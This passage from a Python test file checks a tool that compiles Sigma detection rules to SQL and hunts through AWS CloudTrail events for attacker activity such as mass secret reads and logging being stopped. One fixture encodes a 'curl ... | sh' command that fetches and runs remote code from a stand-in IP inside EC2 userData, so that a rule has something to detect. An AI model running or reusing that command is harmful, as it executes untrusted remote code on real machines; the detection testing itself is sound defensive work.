            record("ConsoleLogin", "signin.amazonaws.com", user("dora"), at(5), event_id="login_dora"),
        ],
    )
    a = {
        **_BASE,
        "title": "a",
        "name": "new_user",
        "id": "a",
        "detection": {"s": {"eventName": "CreateUser"}, "condition": "s"},
    }
    b = {
        **_BASE,
        "title": "b",
        "name": "login",
        "id": "b",
        "detection": {"s": {"eventName": "ConsoleLogin"}, "condition": "s"},
    }
    body = {
        "type": "temporal",
        "rules": ["new_user", "login"],
        "group-by": ["user"],
        "timespan": "1h",
        "aliases": {"user": {"new_user": "requestParameters.userName", "login": "userIdentity.userName"}},
    }
    corr, _ = _correlation(tmp_path, body, a, b)
    assert _run(c, corr) == {"create_bob", "login_bob"}


def test_legacy_count_aggregation_runs_as_an_event_count(tmp_path):
    """SigmaHQ's mass secret retrieval rule: ``selection | count() by userIdentity.arn > 20``."""
    c = _secret_reads({"alice": [i * 10 for i in range(21)], "bob": list(range(20))})
    [r] = load_file(FIXTURES / "sigma" / "aws_secretsmanager_mass_secret_retrieval.yml")
    assert r.sigma.aggregation.group_by == ["userIdentity.arn"] and r.sigma.aggregation.timespan is None
    assert _run(c, r.sigma) == {f"alice{i}" for i in range(21)}  # no timeframe: the whole window counts
    # with a timeframe the count is per time bucket; count(field) counts distinct values
    doc = dict(r.sigma.doc, detection={**r.sigma.doc["detection"], "timeframe": "1h"})
    assert _run(c, parse_rule(doc)) == set()  # alice's 21 span 200 minutes
    # count(field): distinct values; every hour-bucket of alice and bob holds >= 3 reads of 3 distinct secrets
    doc["detection"]["condition"] = "selection | count(requestParameters.secretId) by userIdentity.arn >= 3"
    assert _run(c, parse_rule(doc)) == {f"alice{i}" for i in range(21)} | {f"bob{i}" for i in range(20)}
    doc["detection"]["condition"] = "selection | count(requestParameters.secretId) by userIdentity.arn >= 4"
    assert _run(c, parse_rule(doc)) == set()  # 21 reads, but only 3 distinct secrets
    assert parse_rule(doc).aggregation.field == "requestParameters.secretId"


@settings(max_examples=40, deadline=None)
@given(
    events=st.lists(st.tuples(st.sampled_from(["p", "q", "r"]), st.integers(0, 180)), max_size=30),
    span=st.sampled_from([5, 10, 60]),
    threshold=st.integers(1, 5),
)
def test_event_count_agrees_with_python_buckets(events, span, threshold):
    """The compiled GROUP BY/HAVING against tumbling buckets counted in Python (the ground truth)."""
    c = duckdb.connect()
    recs = [
        record("GetSecretValue", "secretsmanager.amazonaws.com", user(who), at(m), event_id=f"e{i}")
        for i, (who, m) in enumerate(events)
    ]
    recs.append(record("ListSecrets", "secretsmanager.amazonaws.com", user("p"), at(0), event_id="other"))
    store.insert_records(c, recs)
    doc = {
        **_SECRET_READ,
        "detection": {
            **_SECRET_READ["detection"],
            "timeframe": f"{span}m",
            "condition": f"s | count() by userIdentity.arn >= {threshold}",
        },
    }
    counts: dict[tuple[str, int], int] = {}
    for who, m in events:
        counts[(who, m // span)] = counts.get((who, m // span), 0) + 1
    expected = {f"e{i}" for i, (who, m) in enumerate(events) if counts[(who, m // span)] >= threshold}
    assert _run(c, parse_rule(doc)) == expected
    c.close()


@pytest.mark.parametrize(
    "body, message",
    [
        (
            {
                "type": "temporal_ordered",
                "rules": ["secret_read", "secret_read", "secret_read"],
                "group-by": ["userIdentity.arn"],
                "timespan": "1h",
            },
            "more than two rules",
        ),
        (
            {
                "type": "value_sum",
                "rules": ["secret_read"],
                "timespan": "1h",
                "condition": {"gte": 3, "field": "requestParameters.size"},
            },
            "value_sum",
        ),
        ({"type": "event_count", "rules": ["nowhere"], "timespan": "1h", "condition": {"gte": 3}}, "nowhere"),
        ({"type": "event_count", "rules": ["secret_read"], "condition": {"gte": 3}}, "timespan"),
    ],
)
def test_correlations_that_cannot_run_say_why(tmp_path, body, message):
    import yaml

    corr = {**_BASE, "title": "corr", "id": "corr", "correlation": body}
    (tmp_path / "c.yml").write_text(yaml.safe_dump_all([_SECRET_READ, corr]))
    with pytest.raises(SigmaError, match=re.escape(message)):
        compile_rule(parse_rule(corr, str(tmp_path / "c.yml")), DUCK)


def test_placeholders_fill_expand_values(con):
    r = rule({"s": {"eventName|expand": "%names%"}, "condition": "s"})
    assert {
        x[0]
        for x in con.execute(
            "SELECT event_id FROM events WHERE "
            + compile_rule(r, DUCK, placeholders={"names": ["StopLogging", "ListBuckets"]}).where
        ).fetchall()
    } == {"stop", "root_list"}
    with pytest.raises(SigmaError, match="placeholder %names% has no value"):
        compile_rule(r, DUCK)


#: the vendored SigmaHQ rules that still cannot run, and why (``iamkit trail rules`` shows the same reason)
UNSUPPORTED = {
    "aws_cloudtrail_console_susp_login": "|expand placeholder %Legitimate_Countries% has no value",
}


def test_unsupported_sigmahq_rules_are_listed_with_their_reason():
    found = {}
    for path in sorted((FIXTURES / "sigma" / "unsupported").glob("*.yml")):
        [r] = load_file(path)
        for d in (DUCK, TRINO):
            with pytest.raises(SigmaError) as e:
                compile_rule(r.sigma, d)
        found[path.stem] = str(e.value)
    assert set(found) == set(UNSUPPORTED)
    for stem, reason in UNSUPPORTED.items():
        assert found[stem].startswith(reason), found[stem]
    # with values for its placeholders it compiles, and says its other fields are not CloudTrail's
    [r] = load_file(FIXTURES / "sigma" / "unsupported" / "aws_cloudtrail_console_susp_login.yml")
    comp = compile_rule(r.sigma, DUCK, placeholders={"Legitimate_Countries": ["DE"], "Legitimate_IP_Ranges": ["x"]})
    assert {w.split("'")[1] for w in comp.warnings} == {"status", "src_country", "src_ip"}


def test_pysigma_modifiers_base64_cased_windash_fieldref_startswith():
    import base64

    c = duckdb.connect()
    encoded = base64.b64encode(b"#!/bin/sh\ncurl http://203.0.113.5/x | sh").decode()
    store.insert_records(
        c,
        [
            record(
                "ModifyInstanceAttribute",
                "ec2.amazonaws.com",
                user("a"),
                at(0),
                event_id="ud",
                ua="Boto3/1.34 -x",
                rp={"userData": {"value": encoded}},
            ),
            record(
                "ModifyInstanceAttribute",
                "ec2.amazonaws.com",
                user("b"),
                at(1),
                event_id="benign",
                ua="boto3/1.34",
                rp={"userData": {"value": base64.b64encode(b"#!/bin/sh\necho hello").decode()}},
            ),
        ],
    )
    assert hits(
        c, {"s": {"requestParameters.userData.value|base64offset|contains": "curl http"}, "condition": "s"}
    ) == {"ud"}
    assert hits(c, {"s": {"userAgent|cased|startswith": "Boto3"}, "condition": "s"}) == {"ud"}
    assert hits(c, {"s": {"userAgent|startswith": "Boto3"}, "condition": "s"}) == {"ud", "benign"}
    assert hits(c, {"s": {"userAgent|windash|contains": "/x"}, "condition": "s"}) == {"ud"}  # '-x' is a variant
    # "boto3/1.34" starts with "b", the user b (case-insensitive); "Boto3/1.34 -x" does not start with "a"
    assert hits(c, {"s": {"userAgent|fieldref|startswith": "userIdentity.userName"}, "condition": "s"}) == {"benign"}
    assert hits(c, {"s": {"userIdentity.arn|fieldref|endswith": "userIdentity.userName"}, "condition": "s"}) == {
        "ud",
        "benign",
    }
    c.close()


def test_correlation_counts_only_within_the_scope(tmp_path):
    """With the hunt's window as ``scope``, reads outside it do not help a group over the threshold."""
    c = _secret_reads({"alice": [0, 1, 2, 3], "bob": [0, 1, 2, 3]})
    body = {
        "type": "event_count",
        "rules": ["secret_read"],
        "group-by": ["userIdentity.arn"],
        "timespan": "1h",
        "condition": {"gte": 4},
    }
    corr, _ = _correlation(tmp_path, body, _SECRET_READ)
    scope = "event_time >= TIMESTAMPTZ '2026-01-01 00:01:00+00'"
    where = compile_rule(corr, DUCK, scope=scope).where
    assert c.execute(f"SELECT count(*) FROM events WHERE {where} AND {scope}").fetchone()[0] == 0
    assert len(_run(c, corr)) == 8  # unscoped: both have 4
    sql, _ = to_sql(corr, DUCK, extra_where=scope)  # to_sql passes its extra predicate as the scope
    assert c.execute(sql).fetchall() == []


def test_a_correlation_runs_in_the_hunt_and_its_rule_stays_quiet(tmp_path):
    """End to end through ``hunt`` (its shared single scan included): one detection for the correlation, with
    the events of the qualifying group, and none for the rule it names."""
    import yaml

    from iamkit.trail import Trail
    from iamkit.trail.detect.hunt import hunt

    c = _secret_reads({"alice": [0, 1, 2, 3, 4], "bob": [0, 1]})
    store.insert_records(c, [record("StopLogging", "cloudtrail.amazonaws.com", user("eve"), at(5), event_id="stop")])
    corr = {
        **_BASE,
        "title": "Many secret reads",
        "id": "corr",
        "level": "high",
        "correlation": {
            "type": "event_count",
            "rules": ["secret_read"],
            "group-by": ["userIdentity.arn"],
            "timespan": "10m",
            "condition": {"gte": 5},
        },
    }
    (tmp_path / "c.yml").write_text(yaml.safe_dump_all([_SECRET_READ, corr]))
    res = hunt(Trail(c), sigma_dirs=[tmp_path])
    det = res.detections.set_index("detection_id")
    assert "secret-read" not in det.index and "iamkit-logging-stopped" in det.index
    assert det.loc["corr", "principal_arn"].endswith(":user/alice") and det.loc["corr", "severity"] == "high"
    assert sorted(det.loc["corr", "event_ids"]) == [f"alice{i}" for i in range(5)]
    assert not len(res.errors[res.errors["code"].isin(["rule_failed", "rule_unsupported", "rule_invalid"])])


def _agree(c, r) -> int:
    """The Trino rendering, transcribed to DuckDB by sqlglot, gives the DuckDB rendering's rows."""
    mine = c.execute(to_sql(r, DUCK)[0]).fetchall()
    [duck] = sqlglot.transpile(to_sql(r, TRINO)[0], read="trino", write="duckdb")
    theirs = c.execute(duck).fetchall()
    norm = lambda rows: sorted(str((a, b, sorted(ids), *rest)) for a, b, ids, *rest in rows)  # noqa: E731
    assert norm(mine) == norm(theirs), r.id
    return len(mine)


@pytest.mark.parametrize("path", SIGMA_FILES, ids=lambda p: p.stem)
def test_sigmahq_trino_rendering_agrees_with_duckdb(path, con):
    [r] = load_file(path)
    _agree(con, r.sigma)


def test_correlation_trino_rendering_agrees_with_duckdb(tmp_path):
    c = _secret_reads({"alice": [0, 1, 2, 3, 4, 65], "bob": [0, 1, 2], "carol": [8, 9, 11, 12]})
    fired = 0
    for body in (
        {"type": "event_count", "group-by": ["userIdentity.arn"], "timespan": "10m", "condition": {"gte": 3}},
        {
            "type": "value_count",
            "group-by": ["userIdentity.arn"],
            "timespan": "1h",
            "condition": {"gte": 3, "field": "requestParameters.secretId"},
        },
    ):
        corr, _ = _correlation(tmp_path, {**body, "rules": ["secret_read"]}, _SECRET_READ)
        fired += _agree(c, corr)
    doc = {
        **_SECRET_READ,
        "detection": {
            **_SECRET_READ["detection"],
            "timeframe": "1h",
            "condition": "s | count() by userIdentity.arn > 3",
        },
    }
    fired += _agree(c, parse_rule(doc))
    # rows per principal: 10m >= 3 events: alice, bob (carol's 4 straddle two buckets); >= 3 distinct
    # secrets in 1h: alice, bob, carol; > 3 events in 1h: alice, carol
    assert fired == 7
